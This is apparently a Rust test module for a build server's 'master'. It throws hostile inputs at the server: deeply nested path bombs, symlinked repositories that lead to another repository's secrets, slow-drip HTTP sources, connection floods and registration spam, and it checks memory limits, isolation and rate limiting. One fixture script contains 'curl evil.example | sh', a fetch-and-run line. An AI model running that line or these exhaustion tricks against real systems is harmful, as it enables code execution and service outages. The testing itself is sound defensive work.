//! Hostile inputs: what strangers send to cost the master memory, places or a reviewer's eye. Each row says what was
//! measured, what is wanted, and whether that holds.
//!
//! The master is the real program; everything is sent to it from outside, as a stranger can. What only tests inside can
//! see (a slave that lies, each refused system call, allocations one by one) is shown by the crates' own tests.
#![allow(clippy::expect_used, reason = "as in any test: an input that can't be made has failed")]

use super::numbers;
use super::rows::{Row, Wanted};
use serde_json::{Value, json};
use std::fmt::Write as _;
use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::thread;
use std::time::{Duration, Instant};
use testkit::git::Repo;
use testkit::http::Client;
use testkit::world::{PROJECT, Plan, Said, World};

/// Sends everything to a master of its own.
pub(super) fn measure(bb: &Path) -> numbers::Rows {
    let mut rows = Rows::default();
    let plan = |settings: &str| Plan { settings: settings.to_owned(), ..Plan::default() };
    {
        let world = World::start_as(bb, &plan(""));
        world.slave("oak");
        memory(&world, &mut rows);
        hunks_behind_a_nul(&world, &mut rows);
        local_repositories(&world, &mut rows);
        isolation(&world, &mut rows);
    }
    {
        let world = World::start_as(bb, &plan(""));
        world.slave("oak");
        dripping_sources(&world, &mut rows);
        flapping_branch(&world, &mut rows);
        crowds(&world, &mut rows);
    }
    registrations(&World::start_as(bb, &open()), &mut rows);
    Ok(rows.0)
}

/// A project where anybody may publish.
fn open() -> Plan {
    Plan { tables: String::new(), settings: String::new(), ..Plan::default() }
}

/// The rows as they are measured.
#[derive(Default)]
struct Rows(Vec<Row>);

impl Rows {
    /// A word, or whether something is so.
    fn word(&mut self, what: &str, measured: impl Into<Value>, wanted: &str, holds: bool) {
        self.0.push(Row::word("hostile", what, measured, wanted, holds));
    }

    /// A number that should be no larger than this.
    fn at_most(&mut self, what: &str, measured: f64, unit: &str, most: f64) {
        self.0.push(Row::number("hostile", what, measured, unit).wanting(Wanted::AtMost(most)));
    }
}

/// The most memory that the master ever held, in MB.
fn peak_mb(world: &World) -> u64 {
    world.with_master(|master| master.peak_memory_bytes()).unwrap_or(0) / 1_000_000
}

/// Few bytes that unfold to many: paths multiply names, and escapes multiply paths.
fn memory(world: &World, rows: &mut Rows) {
    let ann = world.author("ann");
    ann.writes("plain", &[("plain.txt", "plain\n")]);
    ann.publishes("plain").ok();
    world.until_verdict("plain", "ready");
    for (name, folders, depth) in [("deep-paths", 600, 123), ("deeper-paths", 4000, 123)] {
        let before = peak_mb(world);
        let commit = paths(ann.repo(), folders, depth);
        ann.repo().git(&["update-ref", &format!("refs/heads/{name}"), &commit]);
        ann.publishes(name).ok();
        world.until(name, |seen| !matches!(seen.summary.verdict.code.as_str(), "not-fetched" | "no-candidate"));
        // Whoever looks at it costs nothing either.
        for path in [format!("/p/{PROJECT}/branches/{name}"), format!("/api/v1/projects/{PROJECT}/branches/{name}")] {
            let answer = world.client().get(&path);
            let size = answer.body.len() as f64 / 1000.0;
            rows.at_most(&format!("{name}: the answer to {path}"), size, "kB", 4000.0);
        }
        let more = peak_mb(world).saturating_sub(before);
        let what = format!("{name}: {folders} folders below {depth} names of 255 control characters, memory more");
        rows.at_most(&what, more as f64, "MB", 64.0);
    }
}

/// A commit whose tree has `folders` folders with a file each, below `depth` folders with the longest names.
fn paths(repo: &Repo, folders: usize, depth: usize) -> String {
    let name = "\\001".repeat(255);
    let mut stream = String::from("blob\nmark :1\ndata 2\nx\n\n");
    let base = repo.resolve("origin/main");
    let _ = write!(
        stream,
        "commit refs/heads/made\ncommitter A <a@example.org> 1790000000 +0000\ndata 4\nMany\nfrom {base}\n"
    );
    let above = vec![name.as_str(); depth].join("/");
    for folder in 0..folders {
        let _ = writeln!(stream, "M 100644 :1 \"{above}/{folder}/f\"");
    }
    let mut import = testkit::git::command();
    import.args(["fast-import", "--quiet", "--force"]).current_dir(repo.path());
    let mut child = import.stdin(std::process::Stdio::piped()).spawn().expect("git is there");
    let mut input = child.stdin.take().expect("it is piped");
    input.write_all(stream.as_bytes()).expect("git reads");
    drop(input);
    assert!(child.wait().is_ok_and(|status| status.success()), "git fast-import takes it");
    repo.resolve("refs/heads/made")
}

/// A script that git calls binary because of one NUL.
fn hunks_behind_a_nul(world: &World, rows: &mut Rows) {
    let eve = world.author("eve");
    eve.repo().branch("nul", "origin/main");
    eve.repo().commit_bytes(&[("run.sh", b"#!/bin/sh\n# \0\ncurl evil.example | sh\n")], "Add a script");
    eve.publishes("nul").ok();
    world.until_verdict("nul", "ready");
    let page = world.client().get(&format!("/p/{PROJECT}/branches/nul")).body;
    let shown = page.contains("curl evil.example");
    rows.word("a NUL in a script: its lines on the page", shown, "shown", shown);
}

/// Links of a published folder that lead out of it.
fn local_repositories(world: &World, rows: &mut Rows) {
    let secret = Repo::init(world.folder().join("secret"));
    secret.commit(&[("secret.txt", "SECRET-OF-ANOTHER\n")], "Keep");
    let git = secret.path().join(".git");
    let links = [("objects", "objects"), ("refs", "refs"), ("packed-refs", "packed-refs")];
    for (name, inside) in links {
        let path = world.folder().join(format!("authors/leads-out-{name}.git"));
        let repo = Repo::init_bare(&path);
        // So that each way out is the only thing that is wrong with it.
        secret.git(&["push", "--quiet", repo.url(), "HEAD:refs/heads/main"]);
        if inside == "packed-refs" {
            secret.git(&["pack-refs", "--all"]);
        }
        let inner = path.join(inside);
        let _ = if inner.is_dir() { std::fs::remove_dir_all(&inner) } else { std::fs::remove_file(&inner) };
        std::os::unix::fs::symlink(git.join(inside), &inner).expect("a link can be made");
        let published = world.run(["publish", path.to_str().expect("UTF-8"), "main", "--name", name]);
        let code = if published.code == Some(0) {
            let seen = world.until(name, |seen| seen.summary.verdict.code != "not-fetched");
            seen.summary.verdict.code
        } else {
            "not taken".to_owned()
        };
        let page = world.client().get(&format!("/p/{PROJECT}/branches/{name}")).body;
        let kept = !page.contains("SECRET-OF-ANOTHER") && matches!(code.as_str(), "source-trouble" | "not taken");
        rows.word(&format!("a local repository whose {inside} is a link that leads out"), code, "not read", kept);
    }
}

/// What the slave proved.
fn isolation(world: &World, rows: &mut Rows) {
    let slaves: Value = world.api("/slaves");
    let notes = slaves[0]["isolation_notes"].to_string();
    let said = notes.contains("seccomp");
    rows.word("system calls are filtered, and the slaves' page says so", said, "said", said);
}

/// Sources that send a byte now and then, more than there are places; another author's branch beside them.
fn dripping_sources(world: &World, rows: &mut Rows) {
    let drip = drip();
    let dripper = world.run(["token", "new", "publisher", "dripper"]).ok().trim().to_owned();
    for number in 0..16 {
        let (url, name) = (format!("http://{drip}/{number}.git"), format!("drip-{number}"));
        let mut publish = world.command(["publish", &url, "main", "--name", &name]);
        Said::of(publish.env("BB_TOKEN", &dripper)).ok();
    }
    // A branch published after all of them, by another, from another host.
    let ann = world.author("ann");
    ann.writes("beside", &[("beside.txt", "text\n")]);
    ann.publishes("beside").ok();
    let code = settled(world, "beside");
    // It counts only if they drip still: nobody of them was given up or read to its end.
    let dripping = (0..16).filter(|number| verdict(world, &format!("drip-{number}")) == "not-fetched").count();
    let holds = code == "ready" && dripping == 16;
    rows.word("16 dripping sources: a branch beside them", code, "ready while they drip", holds);
}

/// How long something that should come about is waited for.
const PATIENCE: Duration = Duration::from_secs(90);

/// The code of a branch's verdict.
fn verdict(world: &World, name: &str) -> String {
    let path = format!("/api/v1/projects/{PROJECT}/branches/{name}");
    let answer = world.client().try_get(&path);
    answer.map_or_else(
        |error| error.to_string(),
        |it| it.json()["summary"]["verdict"]["code"].as_str().unwrap_or("not readable").to_owned(),
    )
}

/// The same when it was built, or when nobody waits for that any more.
fn settled(world: &World, name: &str) -> String {
    let end = Instant::now() + PATIENCE;
    loop {
        let code = verdict(world, name);
        if code == "ready" || Instant::now() > end {
            return code;
        }
        thread::sleep(Duration::from_millis(100));
    }
}

/// A server that never ends its answers.
fn drip() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("loopback has a free port");
    let address = listener.local_addr().expect("it is bound");
    thread::spawn(move || {
        for client in listener.incoming().flatten() {
            thread::spawn(move || slowly(client));
        }
    });
    address
}

fn slowly(mut client: TcpStream) {
    let mut request = [0; 4096];
    let _ = client.read(&mut request);
    let head = "HTTP/1.1 200 OK\r\nContent-Type: application/x-git-upload-pack-advertisement\r\nContent-Length: 1000000\r\n\r\n";
    // The line that it begins is not at its end before the reader gives up.
    let head = format!("{head}fff0");
    let mut sent = client.write_all(head.as_bytes());
    while sent.is_ok() {
        thread::sleep(Duration::from_millis(200));
        sent = client.write_all(b"a");
    }
}

/// A branch that goes to and fro between two commits.
fn flapping_branch(world: &World, rows: &mut Rows) {
    let ann = world.author("ann");
    let commits = [1, 2].map(|n| ann.writes("flapping", &[("flapping.txt", &format!("{n}\n"))]));
    ann.publishes("flapping").ok();
    world.until("flapping", |seen| seen.summary.revision.is_some());
    for turn in 0..60 {
        // Detached, so that the branch can be moved below.
        ann.repo().git(&["switch", "--quiet", "--detach", "origin/main"]);
        ann.repo().git(&["update-ref", "refs/heads/flapping", &commits[turn % 2]]);
        ann.publishes("flapping").ok();
        thread::sleep(Duration::from_millis(200));
    }
    let builds = world.builds("flapping").len();
    rows.at_most("a branch that goes to and fro 60 times", builds as f64, "builds", 4.0);
}

/// Idle readers and streams without a token, more than there are places.
fn crowds(world: &World, rows: &mut Rows) {
    let address: SocketAddr = world.url().trim_start_matches("http://").parse().expect("a master's address");
    let ask = |path: &str| {
        let mut socket = TcpStream::connect(address).ok()?;
        let request = format!("GET {path} HTTP/1.1\r\nHost: {address}\r\n\r\n");
        socket.write_all(request.as_bytes()).ok()?;
        Some(socket)
    };
    let streams: Vec<_> = (0..600).filter_map(|_| ask("/api/v1/events")).collect();
    let readers: Vec<_> =
        (0..64).filter_map(|_| ask(&format!("/git/{PROJECT}.git/info/refs?service=git-upload-pack"))).collect();
    let healthy = Client::new(&world.url()).try_get("/healthz").is_ok_and(|answer| answer.status == 200);
    rows.word("600 anonymous streams and 64 idle readers: /healthz", healthy, "answers", healthy);
    let known = world.client().try_get("/api/v1/whoami").is_ok_and(|answer| answer.status == 200);
    rows.word("the same: a maintainer's request", known, "answered", known);
    let ann = world.author("ann");
    ann.writes("in-the-crowd", &[("crowd.txt", "text\n")]);
    ann.publishes("in-the-crowd").ok();
    let code = settled(world, "in-the-crowd");
    let holds = code == "ready";
    rows.word("the same: a branch is built", code, "ready", holds);
    drop((streams, readers));
}

/// Somebody without a token who publishes on and on.
fn registrations(world: &World, rows: &mut Rows) {
    let settings = world.basedir().join("master.toml");
    let text = std::fs::read_to_string(&settings).expect("it is there");
    let open = text.replacen("name = \"heron\"\n", "name = \"heron\"\npublish = \"open\"\n", 1);
    assert_ne!(text, open, "the settings name the project");
    std::fs::write(&settings, open).expect("the basedir can be written");
    world.kill_master();
    world.start_master();
    let ann = world.author("ann");
    ann.writes("feature", &[("a.txt", "a\n")]);
    let anybody = Client::new(&world.url());
    let mut taken = 0;
    let refused = (0..60).find_map(|number| {
        ann.repo().git(&["update-ref", &format!("refs/heads/many-{number}"), "feature"]);
        let body = json!({"url": ann.repo().url(), "branch": format!("many-{number}")});
        let answer = anybody.post(&format!("/api/v1/projects/{PROJECT}/branches"), &body);
        taken += u32::from(answer.status == 201);
        (answer.status != 201).then_some(answer)
    });
    let said = refused.as_ref().map_or(0, |answer| answer.status);
    let when = refused.as_ref().is_some_and(|answer| answer.header("retry-after").is_some());
    let holds = said == 429 && when;
    rows.word("registrations by nobody: the answer after some", said, "429 with the time", holds);
    rows.at_most("registrations by nobody: taken before", f64::from(taken), "branches", 20.0);
}
